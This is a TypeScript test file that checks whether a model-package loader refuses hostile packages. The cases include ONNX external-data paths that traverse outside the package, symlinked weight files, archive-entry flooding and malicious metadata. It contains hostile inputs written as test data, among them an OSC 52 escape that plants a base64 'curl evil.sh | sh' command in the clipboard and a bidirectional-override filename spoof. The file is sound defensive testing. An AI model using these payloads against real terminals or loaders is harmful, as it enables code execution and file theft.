// Model packages as an attacker would hand them over: a content hash that matches (anyone can
// compute it: it proves the files are intact, not who made them) around files that try to make
// Lumen read outside the package. Each must be refused, saying which file and why, before any
// of it reaches ONNX Runtime or TF.js.
import * as tf from '@tensorflow/tfjs';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OnnxModelSession } from '../../models/inference/onnx';
import { ProtoWriter } from '../../models/onnx/proto';
import { importPackageArchive } from '../../models/package/archive';
import { loadPackage } from '../../models/package/package';
import { rehashedCopy, saveTinyNetPackage } from '../support/tiny-package';
import { tarEntry } from '../support/tar-entry';

let dir: string;
let good: string;
/** A file outside every package, standing for ~/.ssh/id_rsa: four floats an attacker wants read. */
let secret: string;
const SECRET_VALUES = [1.5, 2.5, 3.5, 4.5];

beforeAll(async () => {
  await tf.setBackend('cpu');
  dir = mkdtempSync(path.join(os.tmpdir(), 'lumen-hostile-pkg-'));
  secret = path.join(dir, 'secret.bin');
  writeFileSync(secret, Buffer.from(new Float32Array(SECRET_VALUES).buffer));
  good = path.join(dir, 'good');
  await saveTinyNetPackage(good, 'hostile test');
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let copies = 0;
/** A copy of the good package with `change` applied and the content hash made to match again. */
function hostileCopy(change: (pkgDir: string) => void): string {
  return rehashedCopy(good, path.join(dir, `hostile-${copies++}`), change);
}

/**
 * An ONNX model: probabilities = input + W, whose initializer W keeps its four floats in the file
 * `location` (data_location EXTERNAL), placed where `where` says (a graph initializer, or the
 * value of a Constant node inside an If's subgraph, where a shallow check would not look).
 */
function externalDataModel(location: string, where: 'initializer' | 'subgraph' = 'initializer'): Uint8Array {
  const externalTensor = (t: ProtoWriter) => {
    t.int(1, 4).int(2, 1).string(8, 'W');
    t.message(13, (e) => e.string(1, 'location').string(2, location));
    t.message(13, (e) => e.string(1, 'offset').string(2, '0'));
    t.message(13, (e) => e.string(1, 'length').string(2, '16'));
    t.int(14, 1);
  };
  const valueInfo = (name: string, dims: number[]) => (v: ProtoWriter) => {
    v.string(1, name);
    v.message(2, (type) =>
      type.message(1, (tt) => {
        tt.int(1, 1);
        tt.message(2, (s) => {
          for (const d of dims) s.message(1, (dim) => dim.int(1, d));
        });
      }),
    );
  };
  const w = new ProtoWriter();
  w.int(1, 8).string(2, 'attacker').string(3, '1');
  w.message(7, (g) => {
    if (where === 'initializer') {
      g.message(1, (n) => n.string(1, 'input').string(1, 'W').string(2, 'probabilities').string(4, 'Add'));
      g.message(5, externalTensor);
    } else {
      g.message(1, (n) =>
        n
          .string(1, 'cond')
          .string(2, 'W')
          .string(4, 'If')
          .message(5, (a) =>
            a.string(1, 'then_branch').int(20, 5).message(6, (sub) => {
              sub.message(1, (c) => c.string(2, 'Wt').string(4, 'Constant').message(5, (v) => v.string(1, 'value').int(20, 4).message(5, externalTensor)));
              sub.string(2, 'then');
              sub.message(12, valueInfo('Wt', [4]));
            }),
          ),
      );
      g.message(1, (n) => n.string(1, 'input').string(1, 'W').string(2, 'probabilities').string(4, 'Add'));
    }
    g.string(2, 'g');
    g.message(11, valueInfo('input', [1, 1, 1, 4]));
    g.message(12, valueInfo('probabilities', [1, 1, 1, 4]));
  });
  w.message(8, (op) => op.string(1, '').int(2, 17));
  return w.finish();
}

describe('an ONNX model that names external data', () => {
  it('is refused by loadPackage, naming model.onnx and the file, for an absolute path, "..", a file beside it and a subgraph', async () => {
    writeFileSync(path.join(dir, 'beside.bin'), readFileSync(secret));
    const cases: [string, 'initializer' | 'subgraph'][] = [
      [secret, 'initializer'],
      ['../secret.bin', 'initializer'],
      ['../../../../../../../../../../' + secret, 'initializer'],
      [secret, 'subgraph'],
    ];
    for (const [location, where] of cases) {
      const pkgDir = hostileCopy((d) => writeFileSync(path.join(d, 'model.onnx'), externalDataModel(location, where)));
      await expect(loadPackage(pkgDir), `${location} in ${where}`).rejects.toThrow(`model.onnx keeps tensor data outside the model file (tensor "W" names the file ${JSON.stringify(location)})`);
    }
    // Even a file inside the package: Lumen writes none, and the check does not have to decide where a path leads.
    const inside = hostileCopy((d) => {
      writeFileSync(path.join(d, 'weights.bin'), readFileSync(secret));
      writeFileSync(path.join(d, 'model.onnx'), externalDataModel('weights.bin'));
    });
    await expect(loadPackage(inside)).rejects.toThrow('model.onnx keeps tensor data outside the model file');
  });

  it('is refused when ONNX Runtime would be handed the file by path, before it reads the other file', async () => {
    const pkgDir = hostileCopy((d) => writeFileSync(path.join(d, 'model.onnx'), externalDataModel(secret)));
    const onnxPath = path.join(pkgDir, 'model.onnx');
    await expect(OnnxModelSession.create(onnxPath)).rejects.toThrow(`${onnxPath} keeps tensor data outside the model file`);
  });

  it('a model.onnx that is not protobuf at all is named as such, after the hash check', async () => {
    const pkgDir = hostileCopy((d) => writeFileSync(path.join(d, 'model.onnx'), Buffer.from([0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f])));
    await expect(loadPackage(pkgDir)).rejects.toThrow(/model\.onnx is not a valid ONNX model/);
  });

  it('the package Lumen wrote still opens and runs', async () => {
    const pkg = await loadPackage(good);
    const session = await OnnxModelSession.create(pkg.onnxPath, { threads: 1 });
    const out = await session.run(new Float32Array(3 * 32 * 32), 1);
    expect(out.probabilities).toHaveLength(2);
    await session.release();
  });
});

describe('links inside a package folder', () => {
  it('a symlinked model.onnx or weight shard is refused, naming the file', async () => {
    for (const name of ['model.onnx', 'group1-shard1of1.bin']) {
      const pkgDir = hostileCopy((d) => {
        const outside = path.join(dir, `outside-${name}`);
        cpSync(path.join(d, name), outside);
        rmSync(path.join(d, name));
        symlinkSync(outside, path.join(d, name));
      });
      await expect(loadPackage(pkgDir), name).rejects.toThrow(`${name} is a link`);
    }
  });
});

describe('metadata.json from an attacker', () => {
  it('text that would rewrite a terminal or reorder what is shown, and sizes that would exhaust memory, are refused by field', async () => {
    const cases: [string, (m: any) => void, string][] = [
      // OSC 52 writes the clipboard of the terminal that prints the name (lumen predict prints it).
      ['name', (m) => (m.name = 'nodules\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007'), 'invalid metadata.json: name: contains a control character'],
      ['class name', (m) => (m.classNames[1] = 'benign\u202egpj.exe'), 'invalid metadata.json: classNames.1: contains a bidirectional override'],
      ['long name', (m) => (m.name = 'x'.repeat(100_000)), 'invalid metadata.json: name:'],
      ['input size', (m) => (m.inputSize = 40_000), 'invalid metadata.json: inputSize:'],
      ['variant', (m) => (m.variant = 'custom-\u0000'), 'invalid metadata.json: variant:'],
    ];
    for (const [what, change, message] of cases) {
      const pkgDir = hostileCopy((d) => {
        const file = path.join(d, 'metadata.json');
        const m = JSON.parse(readFileSync(file, 'utf8'));
        change(m);
        writeFileSync(file, JSON.stringify(m));
      });
      await expect(loadPackage(pkgDir), what).rejects.toThrow(message);
    }
  });
});

describe('a .lumenpkg archive with a great many entries', () => {
  it('is refused before anything is unpacked, however many it holds', async () => {
    // Each empty entry is one 512-byte header: 2 GB of them would be four million files, and
    // checking each name against all the others before was quadratic (hours for a million).
    const entries = [tarEntry('metadata.json', Buffer.from('{}'))];
    for (let i = 0; i < 1500; i++) entries.push(tarEntry(`f${i}.bin`, Buffer.alloc(0)));
    const file = path.join(dir, 'many.lumenpkg');
    writeFileSync(file, Buffer.concat([...entries, Buffer.alloc(1024)]));
    const dest = path.join(dir, 'many-dest');
    await expect(importPackageArchive(file, dest)).rejects.toThrow('many.lumenpkg: more than 1000 files; a model package has a few dozen. Refused.');
    expect(readdirSync(dir).filter((n) => n.startsWith('many-dest'))).toEqual([]);
  });
});
